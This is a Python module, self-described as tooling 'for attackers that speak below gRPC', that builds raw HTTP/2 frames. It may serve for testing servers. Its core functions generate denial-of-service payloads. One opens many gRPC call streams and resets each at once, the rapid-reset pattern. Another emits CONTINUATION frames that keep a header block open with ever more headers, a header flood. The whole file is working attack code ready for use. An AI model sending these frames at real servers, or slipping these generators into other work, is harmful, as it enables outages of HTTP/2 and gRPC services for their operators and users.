"""Frames of HTTP/2 as bytes, for attackers that speak below gRPC."""

from __future__ import annotations

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_HEADERS = 4
CANCEL = struct.pack(">I", 8)


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def call_headers(method: str, scheme: str = "https") -> bytes:
    """The head of a call of gRPC, as HPACK without a table."""
    names = {
        ":method": "POST",
        ":scheme": scheme,
        ":path": method,
        ":authority": "x",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in names.items())


def more_of_a_head(count: int) -> bytes:
    """A frame with more headers of the head of stream 1, which goes on after it."""
    return frame(CONTINUATION, 0, 1, b"".join(b"\0" + _text(f"x{number}") + _text("x") for number in range(count)))


def opened_and_reset(method: str, first_stream: int, count: int) -> bytes:
    """Frames that open calls of a method and reset each at once; streams are counted by two."""
    head = call_headers(method)
    streams = range(first_stream, first_stream + 2 * count, 2)
    return b"".join(frame(HEADERS, END_HEADERS, each, head) + frame(RESET, 0, each, CANCEL) for each in streams)


def _text(text: str) -> bytes:
    assert len(text) < 127
    return bytes([len(text)]) + text.encode()
